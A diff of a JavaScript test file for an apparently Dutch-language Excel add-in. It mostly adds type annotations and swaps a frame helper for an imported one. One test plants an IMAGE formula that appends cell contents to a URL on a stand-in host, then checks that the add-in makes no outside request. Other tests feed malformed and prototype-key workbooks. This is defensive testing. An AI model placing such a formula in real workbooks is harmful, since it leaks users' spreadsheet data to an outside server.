@@ -2,16 +2,24 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
+import { withNewPane } from './page.mjs';
 
 export const address = '/?model=none';
 
 const FIGURES = /([\d.,]+)\s*fte tekort/;
 
+/** @param {import('./journeys').Opened} t */
 const overviewIsThere = (t) => t.until(() => /fte tekort/.test(document.body.innerText));
+/**
+ * @param {import('./journeys').Opened} t
+ * @param {string} pattern
+ */
 const said = (t, pattern) =>
   t.untilWorkbench((source) => new RegExp(source).test(document.getElementById('notice')?.textContent ?? ''), pattern);
+/** @param {import('./journeys').Opened} t */
 const notice = (t) => t.workbench(() => document.getElementById('notice')?.textContent ?? '');
 
+/** @param {import('./journeys').Opened} t */
 async function save(t) {
   const [download] = await Promise.all([
     t.page.waitForEvent('download'),
@@ -20,25 +28,25 @@ async function save(t) {
   return { path: await download.path(), name: download.suggestedFilename() };
 }
 
+/**
+ * @param {import('./journeys').Opened} t
+ * @param {{ path: string, name: string }} file
+ */
 async function choose(t, { path, name }) {
   await t.page.setInputFiles('#file', { name, mimeType: '', buffer: readFileSync(path) });
 }
 
-/** The pane belongs to the workbook: another workbook, another frame. */
-async function newFrame(t) {
-  const frame = await (await t.page.waitForSelector('#pane iframe', { state: 'attached' })).contentFrame();
-  await frame.waitForFunction(() => window.Office?.context?.requirements);
-  await frame.evaluate(() => window.Office.onReady().then(() => null));
-  const until = (condition, argument) => frame.waitForFunction(condition, argument, { timeout: 30_000 });
-  return { ...t, frame, until, addIn: (action, argument) => frame.evaluate(action, argument) };
-}
-
+/** @param {import('./journeys').Opened} t */
 const figures = (t) =>
   t.addIn(() =>
     document.body.innerText.replace(/[\s\S]*(?=Capaciteit)/, '').replace(/Benodigde fte[\s\S]*|Fte nodig[\s\S]*/, ''),
   );
 
-/** Everything of a workbook the add-in can ask for, in words. */
+/**
+ * Everything of a workbook the add-in can ask for, in words.
+ *
+ * @param {import('./journeys').Opened} t
+ */
 const described = (t) =>
   t.addIn(() =>
     Excel.run(async (context) => {
@@ -82,7 +90,11 @@ const described = (t) =>
     }),
   );
 
-/** A sheet with one of everything. */
+/**
+ * A sheet with one of everything.
+ *
+ * @param {import('./journeys').Opened} t
+ */
 const addEverything = (t) =>
   t.addIn(() =>
     Excel.run(async (context) => {
@@ -138,12 +150,18 @@ const addEverything = (t) =>
 
 const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+/** @param {(readonly [kind: string, target: string])[]} all */
 const relations = (...all) =>
   `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all
     .map(([kind, target], i) => `<Relationship Id="rId${i + 1}" Type="${OFFICE}/${kind}" Target="${target}"/>`)
     .join('')}</Relationships>`;
 
-/** A workbook another program could have written: one sheet of this XML, with other parts beside it. */
+/**
+ * A workbook another program could have written: one sheet of this XML, with other parts beside it.
+ *
+ * @param {string} sheet
+ * @param {Readonly<Record<string, string>>} [others]
+ */
 const workbookOf = (sheet, others = {}, names = '') =>
   Buffer.from(
     zipSync(
@@ -161,6 +179,7 @@ const workbookOf = (sheet, others = {}, names = '') =>
     ),
   );
 
+/** @param {import('./journeys').Opened} t */
 async function savedWithEverything(t) {
   await overviewIsThere(t);
   await addEverything(t);
@@ -171,7 +190,16 @@ async function savedWithEverything(t) {
 /** The example with one of everything as a file, once a test has saved it. @type {Buffer | undefined} */
 let everything;
 
+/**
+ * @param {import('./journeys').Opened} t
+ * @param {string} name
+ * @param {Buffer} buffer
+ */
 const chooseBytes = (t, name, buffer) => t.page.setInputFiles('#file', { name, mimeType: '', buffer });
+/**
+ * @param {import('./journeys').Opened} t
+ * @param {string} name
+ */
 const press = (t, name) => t.page.getByRole('button', { name, exact: true }).click();
 
 /** @type {import('./journeys').Tests} */
@@ -220,6 +248,7 @@ export const tests = {
   },
 
   'a workbook of a stranger asks nothing of any other server': async (t) => {
+    /** @type {string[]} */
     const asked = [];
     t.page.on('request', (request) => asked.push(new URL(request.url()).hostname));
     const image = '<c r="B1"><f>_xlfn.IMAGE("https://elders.example/"&amp;A1)</f></c>';
@@ -239,6 +268,10 @@ export const tests = {
   },
 
   'fifty thousand rows are opened and saved': async (t) => {
+    /**
+     * @param {number} column
+     * @param {number} row
+     */
     const cell = (column, row) => `<c r="${'ABCDEFGH'[column]}${row}"><v>${row * 10 + column}</v></c>`;
     const rows = Array.from({ length: 50_000 }, (_none, i) => {
       const cells = Array.from({ length: 7 }, (_cell, column) => cell(column, i + 1)).join('');
@@ -345,7 +378,7 @@ export const tests = {
     const before = await described(t);
     const frame = t.frame.name();
     const whole = readFileSync((await save(t)).path);
-    for (const [name, bytes, sentence] of [
+    for (const [name, bytes, sentence] of /** @type {const} */ ([
       ['cijfers.xlsx', Buffer.from('Product;Zaken\n'), 'dit is een tekstbestand \\(csv\\)'],
       ['half.xlsx', whole.subarray(0, whole.length / 2), 'beschadigd of niet volledig'],
       ['leeg.xlsx', Buffer.alloc(0), 'het bestand is leeg'],
@@ -357,7 +390,7 @@ export const tests = {
         'te veel samengevoegde cellen',
       ],
       ['toString.xlsx', Buffer.from(zipSync({ toString: strToU8('<a/>') })), 'geen Excel-werkmap'],
-    ]) {
+    ])) {
       await chooseBytes(t, name, bytes);
       await said(t, `^Niet geopend: ${name}: .*${sentence}`);
     }
@@ -389,7 +422,7 @@ export const tests = {
     await choose(page, { ...file, name: 'Mijn model.xlsx' });
     await said(page, '^Geopend: Mijn model.xlsx(?!.*Niet)');
     const opened = Date.now() - from;
-    const second = await newFrame(page);
+    const second = await withNewPane(page);
     await overviewIsThere(second);
     console.log(`        saved in ${saved} ms, opened in ${opened} ms, figures after ${Date.now() - from} ms`);
     await second.idle();
@@ -413,12 +446,13 @@ export const tests = {
     // And a third, in the same page: the workbook that goes takes its work in waiting with it.
     await choose(page, { ...file, name: 'Weer.xlsx' });
     await said(page, '^Geopend: Weer.xlsx');
-    await overviewIsThere(await newFrame(page));
+    await overviewIsThere(await withNewPane(page));
   },
 
   'the file has what Excel wants to see': async ({ at }) => {
     everything ??= await savedWithEverything(await at('/?model=example'));
     const parts = Object.entries(unzipSync(everything)).map(([name, bytes]) => [name, strFromU8(bytes)]);
+    /** @param {string} name */
     const part = (name) => parts.find(([found]) => found === name)?.[1] ?? '';
     const id = Number(/<sheet name="Verborgen" sheetId="(\d+)" state="veryHidden"/.exec(part('xl/workbook.xml'))?.[1]);
     const sheet = part(`xl/worksheets/sheet${id - 1}.xml`);
